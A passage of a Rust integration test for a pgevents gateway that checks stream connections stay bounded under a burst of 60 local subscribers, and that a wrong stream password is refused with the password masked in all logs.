                        tokio::time::sleep(Duration::from_millis(round % 7 * 5)).await;
                    }
                }
            });
            let mut most = 0;
            while !attack.is_finished() {
                most = most.max(gw.stream_connections());
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
            // The hub's, and per replay slot the replay's, its look at the stream's start, and one
            // of a subscriber who just left, still closing (the attack makes 60).
            let bound = 1 + 3 * max_replays;
            ensure!(most <= bound, "{most} stream connections at once, above {bound}");
            let deadline = tokio::time::Instant::now() + WAIT;
            while gw.stream_connections() > 1 && tokio::time::Instant::now() < deadline {
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            ensure!(gw.stream_connections() == 1, "{} stream connections left behind", gw.stream_connections());
            stop(producer).await;
            gw.stop().await;
            Ok(())
        }
        "C2" => {
            // A list of two nodes: the first does not answer, the second refuses the password.
            let nobody = pgevents_testkit::free_local_addr().port();
            let wrong = format!("rabbitmq-stream://guest:stream-secret-pw@127.0.0.1:{nobody}/%2f,{url}")
                .replace("guest:guest@", "guest:stream-secret-pw@");
            let mut producer = PgEventsProcess::spawn(&["producer"], &env(&[("PGEVENTS_STREAM_URL", &wrong)]));
            let code = producer.wait(WAIT).await;
            let log = producer.stderr();
            ensure!(code != Some(0), "{log}");
            ensure!(log.contains("guest:***@"), "the URL is shown without its password: {log}");
            let mut check = PgEventsProcess::spawn(&["check"], &env(&[("PGEVENTS_STREAM_URL", &wrong)]));
            let _ = check.wait(WAIT).await;
            let out = format!("{}{}", check.stdout(), check.stderr());
            ensure!(!log.contains("stream-secret-pw") && !out.contains("stream-secret-pw"), "{log}{out}");
            // The gateway reading the history over the stream protocol, refused the same way.
            let listen = pgevents_testkit::free_local_addr().to_string();
            let serve_env: Vec<(String, String)> = [
                ("RABBITMQ_URL", pgevents_testkit::amqp_url()),
                ("PGEVENTS_LISTEN", listen),
                ("PGEVENTS_HISTORY_PROTOCOL", "stream".to_owned()),
                ("PGEVENTS_HISTORY_STREAM", stream.clone()),
                ("PGEVENTS_STREAM_URL", wrong.clone()),
            ]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v))
            .collect();
            let mut serve = PgEventsProcess::spawn(&["serve"], &serve_env);
            let code = serve.wait(WAIT).await;
            let log = serve.stderr();
            ensure!(code.is_some_and(|c| c != 0), "serve refuses the wrong password at start: {log}");
            ensure!(log.contains("guest:***@"), "serve shows the URL without its password: {log}");
            ensure!(!log.contains("stream-secret-pw"), "{log}");
            Ok(())
        }
        other => Err(format!("no such cell {other}")),
    };
    pgevents_testkit::delete_stream(&stream).await;
    verdict
}
